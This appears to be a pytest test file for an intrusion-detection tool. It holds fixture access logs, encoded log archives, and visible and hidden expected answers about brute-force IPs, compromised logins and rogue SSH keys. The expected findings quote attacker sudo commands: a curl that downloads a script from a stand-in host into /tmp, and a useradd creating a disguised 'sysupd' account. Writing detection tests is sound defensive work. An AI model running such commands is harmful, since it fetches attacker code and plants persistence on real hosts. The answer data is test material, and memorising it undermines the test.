import os
import subprocess

import pytest

import tg_guard
import base64, configparser, csv, gzip, ipaddress, json, re, tempfile

FMT = 'ipset'
BLOCKFILE = 'blocklist.ipset'
VISIBLE = {'filter': [['10.29.255.53 - - [14/Jul/2023:08:07:00 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" "Mozilla/5.0 '
             '(Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['10.41.211.202 - release-mgr [12/Jul/2023:08:31:41 +0000] "GET /grafana/dashboard HTTP/1.1" 304 5592 "-" '
             '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['10.41.211.202 - release-mgr [12/Jul/2023:08:32:21 +0000] "GET /grafana/users HTTP/1.1" 200 7434 "-" '
             '"curl/8.5.0"',
             None],
            ['10.52.189.169 - release-mgr [14/Jul/2023:05:16:52 +0000] "GET /grafana/dashboard HTTP/1.1" 200 2595 "-" '
             '"curl/8.5.0"',
             None],
            ['10.52.189.169 - release-mgr [14/Jul/2023:05:18:12 +0000] "GET /grafana/dashboard HTTP/1.1" 304 5891 "-" '
             '"Go-http-client/1.1"',
             None],
            ['10.57.144.82 - - [14/Jul/2023:08:36:35 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
             '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['10.57.144.82 - reports [14/Jul/2023:08:38:37 +0000] "GET /grafana/users HTTP/1.1" 200 7263 "-" '
             '"python-requests/2.31.0"',
             None],
            ['10.57.144.82 - reports [14/Jul/2023:08:39:17 +0000] "GET /grafana/dashboard HTTP/1.1" 200 306 "-" '
             '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['10.7.111.186 - grafana-admin [14/Jul/2023:08:54:30 +0000] "GET /grafana/settings HTTP/1.1" 304 2917 "-" '
             '"curl/8.5.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:22:46 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:23:34 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:24:11 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:25:06 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" "Mozilla/5.0 (X11; '
             'Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:39:59 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:48:35 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" "Mozilla/5.0 (X11; '
             'Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:11:51:11 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
             '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:01:31 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:03:06 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"curl/8.5.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:06:13 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:07:31 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" "Mozilla/5.0 '
             '(Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:09:00 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" "Mozilla/5.0 '
             '(Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:10:44 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:12:41 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:20:58 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" "Mozilla/5.0 (X11; '
             'Linux x86_64) Gecko/20100101 Firefox/128.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:22:02 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:26:34 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:31:40 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:33:07 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:38:20 +0000] "GET /grafana/api/health HTTP/1.1" 401 195 "-" '
             '"python-requests/2.31.0"',
             None],
            ['134.234.226.12 - - [14/Jul/2023:12:40:30 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
             '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             None],
            ['171.135.85.112 - - [12/Jul/2023:19:56:09 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             None],
            ['171.135.85.112 - admin [12/Jul/2023:19:57:23 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
             '"curl/8.5.0"',
             '171.135.85.112'],
            ['171.135.85.112 - grafana-admin [12/Jul/2023:19:56:12 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 '
             '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
             '171.135.85.112'],
            ['171.135.85.112 - grafana-admin [12/Jul/2023:19:59:45 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
             '"Go-http-client/1.1"',
             '171.135.85.112'],
            ['171.135.85.112 - grafana-admin [12/Jul/2023:20:00:37 +0000] "GET /grafana/dashboard HTTP/1.1" 304 1805 '
             '"-" "curl/8.5.0"',
             None]],
 'findings': {'compromised': [{'ip': '171.135.85.112', 'time': '2023-07-12T20:00:07Z', 'user': 'grafana-admin'},
                              {'ip': '89.147.204.106', 'time': '2023-07-12T23:18:32Z', 'user': 'nikos'}],
              'sudo_after_compromise': [{'command': '/usr/bin/curl -s http://198.51.100.7/x.sh -o /tmp/.x',
                                         'time': '2023-07-12T23:24:33Z',
                                         'user': 'nikos'},
                                        {'command': '/usr/sbin/useradd -m -s /bin/bash sysupd',
                                         'time': '2023-07-12T23:29:16Z',
                                         'user': 'nikos'},
                                        {'command': '/usr/bin/id', 'time': '2023-07-12T23:31:24Z', 'user': 'nikos'},
                                        {'command': '/usr/sbin/ufw status',
                                         'time': '2023-07-13T11:43:47Z',
                                         'user': 'nikos'}],
              'unknown_keys': [{'fingerprint': 'SHA256:1dbe741f4cec9642749cd0fbdfb69a8a0c939bedb1c',
                                'ip': '45.55.240.147',
                                'time': '2023-07-14T20:43:30Z',
                                'user': 'tova'},
                               {'fingerprint': 'SHA256:b16926854e8181652aba1d98e028fc0ac4698d0d502',
                                'ip': '10.19.226.49',
                                'time': '2023-07-15T01:37:39Z',
                                'user': 'mina'}]}}
HIDDEN = [{'files': {'access.log': 'H4sIAAAAAAACA7WWXW/TMBSG7/kVVq+YUB2fY/vEya64gPE1gbRJTEJoykK2BqKkJC4q/HpO2ITa1M1S2NoqUirLz3s+3mODklpJUFYmsZjz9xOY6M2qilChTpVO+am1eKb481nMTl6ci6hqbspavDo//xCBhJlApYSJyYnZfMZLmvnC++U8r8qi9n9WPAGmkISYpMMAxabKpIjblJs2u87qLOoK78v6ptsAGgUCEnvLO21+lVWVRVYq8fQ0y8vaN93iWLyufVEJ/kO8PxMXAsylPRLPl8uq+FhcvS19RBw0b2fFGYPa8u/7jtwr3p8VzNsmqNuEdWfLMloUWeUXg1Q5TFxA+gXAsXhX1qu1WDu6JHMkTor8W8MsUPwD8bJsi+tmHQE6qQ5S2QsNqxxoI15yqy1ftVXkpD2YZKaRLEL8XyTam/kNkua4CWFyZ44B46lJdFbfFXj50y+aet4W31dF57sIpYa7MIldBySTgB1cCnGK9l7Wfhv8Sy9tCGqLZdP6LigrDstadUXbDfPgdHxIHvZiHSd/WvtSQg9ENPGBto4xpmBDG2Selo4CpU5uR+y0nG7VeyTATWC2+lL6pg1i7aScmkeetJPUGnbg9MYjzWYes/xEprGTj6R+0DhNe4YnL3ESMXD2AfQg67ZBnc98mXOvLeXXYXBaET5mPdBKlAhhrdqmlqZrdWTu7daEc2MYbgNATI3auX5sAPNuSEQCeOx7AYI0SVCtVSlruPeyxJNCPeDURpKoVUAQ9fXSg3q1zVXjO+nXfthYWicPpAq4qDF3EYZU8SGSsLBtVdfZjzJvasmPnWThuJk1lydxbGizC0NIwaRgD7AXORc0seUs2/7ocEGMhZ1Dan9M4Nz4naQHJTykKGBDxNBBvJM1vS8K1xfGBvfVfJ2FyYUxqMenrObejNk5+g5mNwasSpH4EjexN1HRCOs3xMkbQ8UMAAA=',
            'access.log.1': 'H4sIAAAAAAACA9Vc3W/bRgx/318h5GnFYPnII3Un9WkPW/dVbEADrMAwFE7iNt4827MVINtfP8pphlY+OpIsnZXWMZog1Y/Hb/JIg0lx/wJIJvL3N7DTH+6WUzRoC0MFQ2F98pWRP78nF6++uUym2/XVutyl5X2ZfHd5+csUUrhI0JiEKM+Ti8lFcnF9t11OfcqpufgCTGophTwFpgAEF4gF0ucQH7az97PVbPoJABlIIOcnnz+7u1mU620QJQuj3O3m290nUNZQ4sj77ljynj15ooplFsxHlm3+KW/Xq8l2/vfdfFfupphaaAdJDY+3x2XbDyypXK0rBzh6gHy1ntyW5WZyvVzMV+X+NxrDscrYm9nu9mo9297UcMHn8ID7ev3vYrmcTUWSyZevZ9eLVbne3b5Mvl+V82UiP0h+fpO8TYDe8Yvk681mOf91fvXjopxmhlN5HidvBGq7+P/7PdkEqROycwjqNlFhbEPzsRCwHrQpgsB5nyLmYQwu5H+2sp/PWPEW4GXy02J1d5/c++xdRi+SV/PrP9cCAEZekHy72M7fr++ngL4pTZm8NxeUatzNoCjvCDU8H1xhuxKnmWYTWF9ANlqe+IK5u79vgpAX1jRzhvrR+/EQDahlI4F2ZPYrNLEN07Sbl+Vi9WF3PtqgAH8Cv+IJFgtoqehabMQUidIcNRyuMeQgM+P8zJzgvJs6neAF2bZ2NCH+N0Gi7m6+pW9jLix0Y2XXw+mx/CnEtmfL+vE68fTaFWQiyd0XqKjYbLOY3s5ny/J2CCPKC2PiZzACq6n5uTMYMQdzkNU3yi9aiXwPQ3ZUiYHQBGpMG04dBFZCKUZw5YJk1WysneJFckJ7ipkjRoRs3xcyY1NMVmkaigt64dk3kivAdfX9w3NeLzbHGLWF4LwA+5wIBok3ECED2yMRj8yyAdTM5/ypAGCB0ItpxtMmq2YvfWuTLYieGXOoQBs9zd7jakG8ectqEAWvGi5xtCXrXkydwnmnZrRPS7ztESVUPjdv4QvyHRTzFInkqtvoSQ5oJNJFTRYFkdzwJSNCHBg96p0/JMs7jK06QZIkPnIDdI/KY2sgIKv+ZEgvj1nrXvxpaGTji9sV1o0xh0CvWuSgSRXmhcFncg+YFdaondazSU5oIhOlx2EhpoEKGmfPRzP0CalxNiysVVV5BA0roQ59HKUm1QENodSknuvJ0Nr1gKwmgiPTSP0Ss/cqT7B4tNmxdSc0OM4kO3+O5FlQyTyfEJGrg5gj8LjUPrVpaXOkDyz1exMvUKCm2WeejRLaUJKFKKGNbKtR3L6skvQ5597l3Gi2uRdesoo0KC8z9eLufArsOnfm2opXquXOHrOroLtflZ4i57zzANdpqJSPNiKx6X7ZcJ4Iz6Bm9322dgWG3cicAqN6A3z06B2tlK06bNR7rSBYhBGkSqq6nz1nYVY7P+PsbnB22gVDTEKZ4zYE2I14WEOI4yxaO4Z969uX2q6hS6FazkQOPN/t2z0Qvd1fIyu8qfdAnG22AsnohlzQa0QtNx7orZZD0ZF9UmBHsFrcDVUc8uzg7BzKVHlqm5cuI4qpcU6VYX23l2FQfoIVv5DJV8hu82qezdqj6zpI1h3dB4I8RcbUhQHE9pj6cXM1rPVmN6nEHYRstgfsPUPQdprhsFq01d3KaThZqwXKvdAQoSdmZo0vpx5O6rLgSUnMJstSf6gk1ZhndrAjuVx/WKzqpzIew3vwmIqtil0Gny5VhHF93/jWUK/EdMVbTrbrIHzeTnxsLPTkrZoT2WB+fG8z7nF3vgfW6LWUEn6c78uNc7UoL2SCCyuNPehT1Jf5DfbHCKvqSJ0B9jHcR1MN21Q1HDoXdnNO/gmh1BS4ui2oD5Tvylm5uBbr3KR/1DWAfI5DBkymFOV79kFi2RyM66ufoZC5AfdcQRy3Fw2mSoYBUvfjd2j7alTU4VR9ecDN+iz06tizm78kNBzAonq93WmMss2JsYfiZyC9UJhFB2lftH5oG8ayuqrdsvnVkC3tLyGOohw7mlfXaIJHe8h/gE5GbdHz/+jETHSxe3Xf9jDPNfFs6TjJ1OYCpyr9fA7hVgtKamIkaoZ6LdVQ9eG9aihbBi0aSzVoMM0DAa7yoXDgy4Kp+ONnOOhFIbBLqzLkEKXa+RGs458SYTHc1mBOUZ7+SD19Uq1AdXlZb3OFqCcydjC1+Q/aTm2JxkwAAA==',
            'access.log.2.gz': 'H4sIAAAAAAACAwG+AUH+H4sIAAAAAAACA7WTW2vcMBCF3/srBj81FEua0cWy8pSHdHsLKWShgRCCY7ysW2O5trZs++sr7yal67iwgdSSDTJC3zkzRyiYYig0Q60gjeMGiX/YNJwESSfIkXVKwRsRn1tIFudL4EMoQl3youtYOQzwbrn8zJFhAiQEoDU5JGkCSfczrH2b9tX3TTWEgROTyETyCgXTkWdyhmRnmVI4ZQ+Zvb/3YWBhGyY8qTXueQufrkPo0rKpqzbsduxYhqG1jOScP+vQOKRD1oRAVug9odz0DbdMP7ggzcaDST89GKMD5bQ+0oTKrN0jLvyvumkKHhnw+qIo6zb4YX0K79tQNRB/wOUVXAOqO30CZ13XVF+q+4914GbsYewiXBWroq//rHdKx4lZfHFGKjrKnZ7Ue1X8qEvfsviZapWP5TjQeo14Cp/qdrOFrTV3Rp3Aoiq/+QhBESfC27qvVn7LY9cfChgV5SaWUc6o0rEtMXz/TN7XafAUafNCuihjUjFFM7Ksk8pJc3SxUNnZ7MTmZIqRerQu/wqlcIQOs+Otk8zxhazrMdBqvDEzwtBJcpqeIUzHW/e/cv0bvXj9BbsEAAD0wtMuvgEAAA==',
            'allowlist.txt': 'H4sIAAAAAAACAx3MQQrDMAwF0X1O8SF713ZDKb2NYlQwCXKRpYTevk6XA4+Z0VzRTkGVt1I39WKu/ILwwQoyo7Kx9inF8LyH9AjxliOAGYfvwkpr3at90QvJyMulHPKSLrj84ToW/hlHO5tu0w/nMum+dAAAAA==',
            'journal.json': 'H4sIAAAAAAACA91d224bORJ9369o5GkGWMusKhbJSuAHY5KZMTC5IM5ikaeg1d2KtbElQ5dkgsH++7JbkidK7FW3RLdJG4ZlW77oHJ4qVhWL5F9PPnx4++L0j3dnL198qD+cvzt9+ebJ0+wJGCdAIkqr5u3JP7MnH35/ff7u1enLF/UPfM6Xl4ujUXU0rJ86f3/+x+vfPpw9f/Hq3dmvZy/e1j/yy9vXr5rfe3P2vP7aKOD66zdvz16/PXv3vvneN7/96+kvZ3+svw/Nf/Qv6Pz0t+b/XedXH5aT8Z8/FbPp5Om8ms/H08nPT7P1Z9n0uppUZTaazrLlvJpls+l08dNyXJ6on7Ph12z96ZP//uOvnZjRJYK5uJzOv8e8G6FGNIQKQLt9EM7nF+XR+hV8i1RbA3sjPS2K6nrhsVwvh5fj4lP1tUFVXIzLcTaaTa8yUAMZGDsA5Ox6OltkBi3qzL8afJq9eI7MINn576fI5mlpcs4rBf4RTJkPh1xV1tjKahgqZbRwAQWMqoJGadJ1I4z6r7cwhobHxgTA4+9mENqxRTJKGwmL33FouUzGn6bzG7nwAGq9CK30QloJ3q6XArUaFqawtvR6qZhz54aGRYFyQ6tMWRqn7bAa6ipNvrrqpSFyoxfqqBfRDMwKHeyLfwu3U8F1crH8OL2RCfEACQdu7VZIWcN3yMSJq5wuRs4ZZaU0VqGWUrvc+yLHRSFlZQsxbDktmrrKo+Zvow7upg4WpzHg9AqE0YcUHrO1iWDeL6Qwio3z797HhhHz6nWHtPmPX6rJjc3DAFVj9utQQil3RyjBriCbw2hUioHG+HMpClYlkvJ4SyEuQelS3DAtmrrafM3fxuahm/6NZ5csOAX7wV6W023YpPeGnWUrJTzN3r17f3K9mB+r7Fn25t/PT44vplfVcfPks+xf5y/entTa95//8vrly9NX/geW89nxcDw5XuTjy+xokrHKjj/ns+PL6cfj+de5f0iLi78l4P9qd/+3rYjd0K2y1qGPoxWGgc5wiAxWweLfOoAtHaye3SGE/HqRLa/LfFGlhf7Agf8uOmyBHTSQRbRCQUNiH4bda2gIZuDTPz9PqNU8wcq7+x5iwxj56jFGtKyJDPk0ncPCdy4Q/Hy5uPDY64dqshgX+aKmYOTnheWsepb5mWCSX1UnWYM4q1YPi8XXE//b2azm5ySbXUzni5NtlTXUndTUpcnSr56B2qTy+fzLdFbutiifk8vKoloBZlDk4zAbFLAAPC5ZRMdSZ1mQtkZay4IBrWUgDhJUS5CIKh45xMNOZxkY5WXXWgZ+biUfXYMOq3v7uLxDfCx1lgU7o1tPGs5HXwFrLyQQfb2pxmwSwbxfvckKOwqIEG38VUQrRnEimPcbVac1MGkFBkM6J08a7Y30bPI5vxyX6xrYspovbtySowHaAZBbxyzMqNIEees8VVxUxafGKz9boV9OPk2mXyaPCGKYqfhGB2kyc9v0O+6m+pZzsdNMJAKIJix6MlHrolOEFiNJOyO070RhQKC9KJz2s7kGF9gkNIRx+svhcrJY3qn/ujEkTZTBvX4iEB/A68fHzE6v30L2rS1cjLBPSsLmnB6+hLHw0eJ69Xg7Vq21qDRhBjfxRCA+gInHx8xOE2+j+7Y2zspAvRzhJESZkZU1YWw7L6/GkzsRihiXFrjQFh07tP4tOSJGdlrwbnW3t18n6KFbCoNa+ii5MLEPgZICF95+44b2EPYbDSOHlVYadbe2X0BjFKMJgxrgMZVUIiKnaymFnTjbXgTkHGgCFQYnuT5KKKwtm7TQBffikUN7AC8eDyMHlkoaebe0YCFiUaRQwgSfEGNi7Xhg1AC4bsDfOPKmpTQtfm6Txbcb0LZhriNysu2l4IWj0GlxYaA6SEMK7daKY6LnNiU0LeN3CsGHIuxaC8Ega0I2QRv6PGLzyHxDfDzt4yMMuvbScE4rI9qGXSvEVe/o4/EV8dG0h89wrnUzpNQtBoch3kZKIbb2d7ICJTpBsH1utBaNCg/A/d2Ook16HGo/FXbbTzWvN1TVnORlmR1dZUfzrNljNcy9J5h/nS+vy7Qo6XuTlWhtdUjsVj+gHOqh97NFdlwtiuP5RV5Ov6RFQc/Dj0Dr5tBQ7aHaxt4S22CmRDDv1RKLoMmEHFUwJv5R1SSUCOY9R9U5dtqQsRAmYrH31wlTb75As+7rI8ecFrywldr4oQWr1K7GPS1G9ul4+UHf7bIOj7s+6glJIOj2Wybl7mnl/FukTCg2TZDBLToRiA9g2fEx031F/QfVt7VvUYpFSFzYciKRjVoXXSprUZK0o7L2gyi0VoytRQFkxFotEhavDtTueD2+E6Z/6TpNhKE9fioQ+/f4ETKz0+PvkHxry0YVdM+0cfEn2v4dE8G8Z6ItSNYYVjZwCGMphUl8eZXP0iTpNquv0dxp6uDadlbUeMU65cCEyVhJkhBDcwZ0WuzcpoLtI8G/D/DRsrSWgQ9byYD/EFT2GkwvxThCQ5AmzOABXSIQHyCgi4+ZQ4t0je5b27hG1mzAqcD4bQ9FOh82t7Pw+EAGt/BEID6AhcfHzGFFukb17e27PvtE0AQ53a5uH3xMxbl4yOlalDPK2fYi8KmG1agDbe/RBu+7GEeiWi2/RIQsuEePHNoDePJ4GDmg6NZIu6XlEjlS4gyCCQQ5ykxcD8wA0XbLw2PiZncevoG4KsY4INVBAtoYsIGad7W1j0oCsXDTUQLMYjtIwChiRBX27BRWErhp/f8AJjFtN2tHCbjHG+WQnCLjFGob9jws1irwgG9dGsRST3QIsPZyDK3zlBgR93cBUA3f1pvwHdsgfdlsIeAFQLrzBUDltPhUB0HztKD3e9+Ph17vxfMeksKuK7G7X7/OZsA4QL22c++sofVUFiHkfj27Y+MTGdYQRO0G+RBDX43rXVd9rZ69v7u+omLjQNv/ThS7sWtQon0q6PEHiV1N8B2IW6eu+Hld4QCAb+4fab2OGBPS/i5p8rDJhzOgWIftFTJ0v9e9go/iRHwYx5tttd653v+dXlHy1a9crMZ6IpMwvlAfFAI2krhrc2Lz5D3OCzFxceC8sK2IFtC1qyv7DlGHcZYHXGLRJhaE5sJ5PzlsNuFbsNR2YogIa59BoPaBCnB9Ro8LI29HIYNA6h4EesNeVFfF4jKbVfNF7nUw+Tie/JkWFb1HgH6yM+DnyUDVS3tAz0mrcp4eiDd4LZuCHlHbjsKYoPZq6bY+fMNZBWESHIv2gS39P9PlbJJf1qZ+tKxHPy0S+rbx+i65oF3zIe5evOeueY8ZUsG8X9e8T4mMz3RYQdhUxR5wCOMdqd12gR59oMYDMOvKndEeye2pncsxz8u8HA6VyllGVCD5PA6r3CipiA2LHhqohpKnyVeP1X2L/i3kKRwq+sv4Gsw2Ecz7OQFrhEOOqpIERtWI5UQw7zeqzmmjwyFksfFvc/OYRSWCec9RFYGg3ghU/KMqPvROBPNeo+ojazBWvHRt2NZu7+VCh2GL6ed8FYahggFqGhgZWFw3SqjNBvsfK+zDOuJCwyNjrVj0cfVIVVIMSeXWB2aeAaFKD4dDTpOvrmFYTeQmDMNOBkHKqaBOgFT0TqDGjCYRzPs5AdAKiRUChmnitxJ8eW1rXy7XB7kODG0OXDGG7sjAikLrHEs1LEsajbAYjWRII6J8yCZH9OmXKKvzkdNpsdTV5Gv6Niavu8kfDGvtRQuB7qpyGDxB366xkmtO+jWbLlGx61skf5BHaXLOKwX+EUyZ+wmgqqyxldXgU3ajhQsoYFQVNEqLpx7rswSW0DjUjGHOQ3XaPnA7zr4rMVFR0XOVlhCAQs6SGiH6yKDGbBPBvF9kUJ9+G7JAA0onMKrkIBHMe45qvf8L0TKETWLqg1sj3BeD5MNFO/BRQJe7PqJkadddH9+CXeXFWMc7rVaYa8D1mcj+kzD3YTnBe7zQ4Qeo9XQJCULt8ToHQtKkDJIL3DsuCPe66gZmwDBwtOmc1ehuD+nZFWRzGI1KMdD0VeZSFKxK9LgdlUJceodcihumyVZ/a26EoutrDlBRWAcoBxy82abJhmCAdT8d483hm5rbOoYIMfeZzfkEBlmLIwqTxUr45fitTmvy4wx1p/VmHw06df+N1lHR1F+DNZFP8cT/muPA1sFy300boPUAwG1k4qzuYQKJka8eJxANVlzI5TPD0WePGpySRDDvlz1q1BxyVFX8p9jWmA0mgnnPUbXGBh1VTfGPqrUqFcz7jaoRsCCIEPjsfAm+JWb+uTiaF/nkrhuutZ+jW26KiRJ112l3w0cjZpHvlf0/5uZtXVW1AAA=',
            'known_keys.txt': 'H4sIAAAAAAACAz3QTU7DQAwF4D2nGIkLzJ89NiuQQGLPCTz2TBtBk6ikIG5PUilZWV68T35+dKI63cbFuT6Mp3adr8O2LH9zc06ny6WNy4OeBxvcx/tLBHwyFJDmwzoDmtQKrRUsreRQvcfMoEFDb5q6e3uNAIHdHXj+knmZ5ofTbxt3DEhTkdC7MYZGWbuwKniLySMl4wQWfDamemBbfrfOt9O0W0pMd4IIfWHD4mNmyyQYC4EqWyvKCAUOa8vv1jh8Tt8HFrOvilqKrS0bgBBVBPbBUy0ezZByqa3mdmB3YNeW6Ud2jCSKmFhdHyTAPWlM6xmxCXpuCVY317V/ZTmwLb9bt4tcD0s1Z4nmq1nqPWrvXFNPSSqgxLhC7EuWTvmwtvxu/QNJ+9E58gEAAA==',
            'timedatectl.txt': 'H4sIAAAAAAACA12MQQrCMBQF9znFW+qiWCsidCvuRATjAcrrB4NpPjSfQnp6s7Wznhngj7tyiLAwSY8dNUahyYiu7U5Ne2mO573DBl9lrJpqcTMe3v7qXiWbTGBUfpFL4mfWFFYZexTJm8PDP5FlXgLrYaCFRdwPMzubepYAAAA='},
  'host': 'vault-fe',
  'truth': {'filter': [['10.19.252.75 - ops-dash [13/Jul/2023:09:34:56 +0000] "GET /grafana/ HTTP/1.1" 200 8851 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['10.32.101.12 - billing-ro [13/Jul/2023:10:51:49 +0000] "GET /grafana/ HTTP/1.1" 200 8774 "-" '
                        '"python-requests/2.31.0"',
                        None],
                       ['10.32.101.12 - billing-ro [13/Jul/2023:10:52:29 +0000] "GET /grafana/settings HTTP/1.1" 200 '
                        '784 "-" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['10.34.19.154 - auditor [13/Jul/2023:05:22:26 +0000] "GET /grafana/users HTTP/1.1" 304 7488 '
                        '"-" "curl/8.5.0"',
                        None],
                       ['10.34.19.154 - auditor [13/Jul/2023:05:25:06 +0000] "GET /grafana/dashboard HTTP/1.1" 200 '
                        '1891 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['10.36.176.82 - - [14/Jul/2023:05:04:22 +0000] "GET /grafana/settings HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['10.42.113.86 - auditor [14/Jul/2023:09:04:45 +0000] "GET /grafana/settings HTTP/1.1" 304 8360 '
                        '"-" "curl/8.5.0"',
                        None],
                       ['10.7.120.225 - - [13/Jul/2023:07:34:21 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['10.7.120.225 - auditor [13/Jul/2023:07:35:43 +0000] "GET /grafana/settings HTTP/1.1" 200 8571 '
                        '"-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['212.78.194.101 - admin [13/Jul/2023:16:22:02 +0000] "GET /grafana/settings HTTP/1.1" 401 195 '
                        '"-" "Go-http-client/1.1"',
                        '212.78.194.101'],
                       ['212.78.194.101 - admin [13/Jul/2023:16:24:33 +0000] "GET /grafana/api/health HTTP/1.1" 401 '
                        '195 "-" "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        '212.78.194.101'],
                       ['212.78.194.101 - admin [13/Jul/2023:16:26:16 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        '212.78.194.101'],
                       ['212.78.194.101 - billing-ro [13/Jul/2023:16:21:26 +0000] "GET /grafana/dashboard HTTP/1.1" '
                        '401 195 "-" "Go-http-client/1.1"',
                        '212.78.194.101'],
                       ['212.78.194.101 - billing-ro [13/Jul/2023:16:22:21 +0000] "GET /grafana/users HTTP/1.1" 401 '
                        '195 "-" "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        '212.78.194.101'],
                       ['212.78.194.101 - billing-ro [13/Jul/2023:16:25:59 +0000] "GET /grafana/api/health HTTP/1.1" '
                        '401 195 "-" "curl/8.5.0"',
                        '212.78.194.101'],
                       ['212.78.194.101 - billing-ro [13/Jul/2023:16:28:01 +0000] "GET /grafana/api/health HTTP/1.1" '
                        '200 2014 "-" "curl/8.5.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:05:46:05 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:05:46:49 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:05:49:30 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Safari/605.1.15"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:05:59:31 +0000] "GET /grafana/dashboard HTTP/1.1" 401 195 "-" '
                        '"Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:00:03 +0000] "GET /grafana/users HTTP/1.1" 401 195 "-" '
                        '"curl/8.5.0"',
                        None],
                       ['23.215.188.229 - - [13/Jul/2023:06:02:12 +0000] "GET /grafana/ HTTP/1.1" 401 195 "-" '
                        '"Go-http-client/1.1"',
